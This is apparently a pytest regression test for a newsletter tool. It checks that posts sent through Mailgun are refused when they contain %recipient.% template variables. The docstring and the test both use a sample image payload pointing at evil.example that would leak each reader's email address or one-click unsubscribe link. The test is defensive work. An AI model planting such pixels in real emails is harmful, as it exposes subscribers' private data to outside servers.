"""Mailgun fills every ``%recipient.name%`` of a message with that reader's recipient-variable,
not only the two values a post may not hold (``%recipient.email%``, ``%recipient.unsubscribe_url%``):
the reader's address (``reader``) and headers of their own (``h:List-Unsubscribe``) too. Before,
a guest post's ``![](https://evil.example/p.gif?r=%recipient.reader%)`` sent every reader's
address to a stranger's server, and ``%recipient.h:List-Unsubscribe%`` their one-click links.
Now any ``%recipient.`` in a post sent through Mailgun is refused before anyone is claimed."""

from __future__ import annotations

import pytest
from test_provider_matrix import run  # noqa: F401 (the fixture)

from newsletter.errors import ContentError


@pytest.mark.parametrize("tag", ["%recipient.reader%", "%recipient.h:List-Unsubscribe%",
                                 "%recipient.anything%"])
def test_a_post_holding_any_mailgun_variable_is_refused(run, tag):  # noqa: F811
    campaign = run("mailgun")
    post = campaign.site / "content" / "posts" / "what-matters.md"
    post.write_text(post.read_text().replace(
        "Three years ago", f"![x](https://evil.example/p.gif?r={tag}) Three years ago"))
    campaign.configure()

    with pytest.raises(ContentError, match="which mailgun would replace"):
        campaign.send()

    assert campaign.counts() == {} and not campaign.server.accepted
